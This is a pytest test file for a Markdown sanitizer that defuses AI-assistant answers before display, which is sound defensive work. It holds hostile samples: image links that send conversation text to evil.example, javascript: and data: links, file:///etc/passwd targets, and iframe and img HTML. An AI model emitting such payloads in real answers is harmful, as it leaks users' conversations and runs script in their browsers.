"""What untrusted Markdown can still do once `inert` has been through it: nothing that fetches or
runs, checked by parsing what it returns as a browser's CommonMark parser would."""

from __future__ import annotations

from datetime import datetime, timezone

import pytest

from docchat.domain import AnswerFacts, Citation, Message, Role
from docchat.web.safe_markdown import inert, link_allowed
from docchat.ui.sources import linked

from tests.hostile_text import markdown_tokens, shown_text

LEAK = "https://evil.example/leak?q=Harbour+Family+Trust+Determination+Date"


def _links(markdown: str) -> list[str]:
    return [t.attrs["href"] for t in markdown_tokens(markdown) if t.type == "link_open"]


def assert_inert(markdown: str) -> None:
    kinds = {t.type for t in markdown_tokens(markdown)}
    assert not kinds & {"image", "html_inline", "html_block"}, markdown
    assert all(link_allowed(href) for href in _links(markdown)), markdown


IMAGES = {
    "inline": f"The date is the 15th. ![chart]({LEAK})",
    "reference": f"The date is the 15th. ![chart][leak]\n\n[leak]: {LEAK}",
    "collapsed reference": f"The date is the 15th. ![leak][]\n\n[leak]: {LEAK}",
    "shortcut reference": f"The date is the 15th. ![leak]\n\n[leak]: {LEAK}",
    "reference defined first, in a quote": f"> [leak]: {LEAK}\n\n![chart][leak]",
    "with a title": f'![chart]({LEAK} "Quarterly chart")',
    "in angle brackets": f"![chart](<{LEAK}>)",
    "split over two lines": "![chart](\nhttps://evil.example/leak?q=split)",
    "in a table": f"| Date | Chart |\n|---|---|\n| 15th | ![chart]({LEAK}) |",
    "in a heading": f"## Summary ![chart]({LEAK})",
    "in a list in a quote": f"> - the date\n>   ![chart]({LEAK})",
    "inside a link": f"[![chart]({LEAK})](https://docs.example/trust)",
}


@pytest.mark.parametrize("markdown", IMAGES.values(), ids=IMAGES.keys())
def test_an_image_that_would_carry_the_conversation_away_is_shown_as_its_address(markdown):
    shown = inert(markdown)

    assert_inert(shown)
    assert "image not loaded" in shown_text(shown)
    assert "evil.example/leak?q=" in shown_text(shown)


@pytest.mark.parametrize("address", ["//evil.example/pixel.png", "data:image/png;base64,iVBORw0KGgo=",
                                     "/media/pixel.png", "pixel.png"])
def test_protocol_relative_data_and_relative_images_are_never_images_either(address):
    shown = inert(f"Here: ![pixel]({address})")

    assert_inert(shown)
    assert f"image not loaded: pixel — {address}" in shown_text(shown)


def test_an_image_address_is_shown_in_a_code_span_so_it_does_not_become_a_link():
    shown = inert(f"![chart]({LEAK})")

    assert [t.content for t in markdown_tokens(shown) if t.type == "code_inline"] == [LEAK]


def test_an_unfinished_image_in_a_streaming_answer_cannot_be_completed_into_one():
    shown = inert("The date is the 15th ![x](https://evil.example/leak?q=Harbour")

    assert shown.startswith("The date is the 15th \\![x]")


def test_a_link_whose_text_hides_its_target_shows_the_target_beside_it():
    shown = inert("Log in to [your bank](https://evil.example/login) to see the trust deed.")

    assert _links(shown) == ["https://evil.example/login"]
    assert "your bank (https://evil.example/login) to see" in shown_text(shown)


@pytest.mark.parametrize("markdown", ["See <https://docs.example/trust>.", "Write to <trustee@harbour.example>.",
                                      "[https://docs.example/trust](https://docs.example/trust)"])
def test_a_link_that_shows_its_own_address_is_left_as_written(markdown):
    assert inert(markdown) == markdown


@pytest.mark.parametrize("target, shown", [
    ("javascript:alert(document.cookie)", "javascript:alert(document.cookie)"),
    ("JaVaScRiPt:alert(1)", "JaVaScRiPt:alert(1)"),
    ("vbscript:msgbox(1)", "vbscript:msgbox(1)"),
    ("data:text/html;base64,PHNjcmlwdD4=", "data:text/html;base64,PHNjcmlwdD4="),
    ("file:///etc/passwd", "file:///etc/passwd"),
    ("ms-settings:privacy", "ms-settings:privacy"),
    ("&#106;avascript:alert(1)", "javascript:alert(1)"),
    ("<java\tscript:alert(1)>", "java%09script:alert(1)"),
])
def test_a_link_to_any_other_scheme_becomes_text_with_its_target(target, shown):
    written = inert(f"Click [the trust deed]({target}) now.")

    assert_inert(written)
    assert _links(written) == []
    assert shown_text(written) == f"Click the trust deed [link blocked: {shown}] now."


def test_an_autolink_to_javascript_becomesshown_text():
    shown = inert("Open <javascript:alert(1)> for the date.")

    assert_inert(shown)
    assert _links(shown) == []
    assert shown_text(shown) == "Open [link blocked: javascript:alert(1)] for the date."


def test_a_reference_link_to_javascript_becomes_text_and_its_definition_goes():
    shown = inert("See [the deed][deed].\n\n[deed]: javascript:alert(1)")

    assert_inert(shown)
    assert "[deed]:" not in shown
    assert shown_text(shown) == "See the deed [link blocked: javascript:alert(1)]."


@pytest.mark.parametrize("html", [
    '<img src="https://evil.example/pixel.png">',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="https://evil.example/">the deed</a>',
    "<!-- ![chart](https://evil.example/hidden.png) -->",
    '<video src="https://evil.example/v.mp4" autoplay>',
])
def test_inline_html_is_shown_as_the_text_it_is(html):
    shown = inert(f"The date is the 15th {html} as agreed.")

    assert_inert(shown)
    assert shown_text(shown) == f"The date is the 15th {html} as agreed."


def test_an_html_block_is_shown_as_text_with_whatever_it_hid():
    block = ('<div>\n<iframe src="https://evil.example/frame"></iframe>\n'
             '![chart](https://evil.example/in-block.png)\n</div>')

    shown = inert(f"The answer:\n\n{block}\n\nThat is all.")

    assert_inert(shown)
    assert '<iframe src="https://evil.example/frame"></iframe>' in shown_text(shown)
    assert "![chart](https://evil.example/in-block.png)" in shown_text(shown)
    assert "That is all." in shown_text(shown)


def test_text_indented_as_a_whole_is_judged_as_streamlit_reads_it_after_dedenting():
    # st.markdown dedents its text: this is a paragraph with an image there, not a code block.
    shown = inert(f"    The date is the 15th.\n    ![chart]({LEAK})")

    assert_inert(shown)
    assert "image not loaded" in shown_text(shown)


def test_text_nested_deeper_than_the_parser_follows_is_shown_as_plainshown_text():
    shown = inert(">" * 60 + f" ![chart]({LEAK})")

    assert_inert(shown)
    assert markdown_tokens(shown)[0].type == "paragraph_open"
    assert LEAK in shown_text(shown)


ORDINARY = {
    "heading and paragraph": "## Determination Date\n\nThe Determination Date is the **15th** of each month.",
    "lists": "- first *item*\n- second\n\n1. one\n2. two",
    "table": "| Date | Event |\n|---|---|\n| 15th | Determination |\n| 20th | Distribution |",
    "code with tags": ("Use `<b>` here:\n\n```html\n<img src=\"https://evil.example/x.png\">\n"
                       "![x](https://evil.example/y.png)\n```"),
    "citations": "The Determination Date is the 15th [1], or the next Business Day [2].",
    "strike-through and quote": "> ~~14th~~ 15th",
}


@pytest.mark.parametrize("markdown", ORDINARY.values(), ids=ORDINARY.keys())
def test_ordinary_markdown_comes_back_unchanged(markdown):
    assert inert(markdown) == markdown


def test_text_with_nothing_to_judge_is_returned_as_is_without_parsing():
    answer = "The Determination Date is the 15th [1]. **Business Day** rules apply."

    assert inert(answer) is answer


def test_citation_links_added_after_it_still_open_their_sources():
    answer = Message(id="m-77", conversation_id="c-42", seq=2, role=Role.ASSISTANT,
                     content=f"The Determination Date is the 15th [1]. ![chart]({LEAK})",
                     created_at=datetime(2025, 3, 14, tzinfo=timezone.utc),
                     facts=AnswerFacts(citations=[Citation(number=1, document="trust-deed.pdf", where="page 4",
                                                           text="the 15th")]))

    shown = linked(answer)

    assert_inert(shown)
    assert _links(shown) == ["?c=c-42&s=m-77.1"]
    assert "image not loaded" in shown_text(shown)


def test_a_mark_in_code_stays_as_written_and_only_the_marks_outside_link_to_sources():
    answer = Message(id="m-77", conversation_id="c-42", seq=2, role=Role.ASSISTANT,
                     content="Read it with `items[1]` [1].\n\n```python\nrow = table[2]\n```\n\nAs ``a`[2]`` and [2] say.\n"
                             "An unclosed ```run [1] is text.",
                     created_at=datetime(2025, 3, 14, tzinfo=timezone.utc),
                     facts=AnswerFacts(citations=[Citation(number=n, document="trust-deed.pdf", where="page 4",
                                                           text="the 15th") for n in (1, 2)]))

    shown = linked(answer)

    assert _links(shown) == ["?c=c-42&s=m-77.1", "?c=c-42&s=m-77.2", "?c=c-42&s=m-77.1"]
    assert "`items[1]`" in shown and "row = table[2]\n```" in shown and "``a`[2]``" in shown


@pytest.mark.parametrize("href, allowed", [
    ("https://docs.example/a", True), ("HTTP://docs.example", True), ("mailto:trustee@harbour.example", True),
    ("?c=1&s=2.1", True), ("#sources", True), ("/docs/a", True), ("//docs.example/a", True), ("a/b:c", True),
    ("javascript:alert(1)", False), ("data:text/html,x", False), ("java%09script:alert(1)", False),
    ("file:///etc/passwd", False), ("tel:+15551234", False),
])
def test_only_web_mail_and_relative_links_are_allowed(href, allowed):
    assert link_allowed(href) is allowed
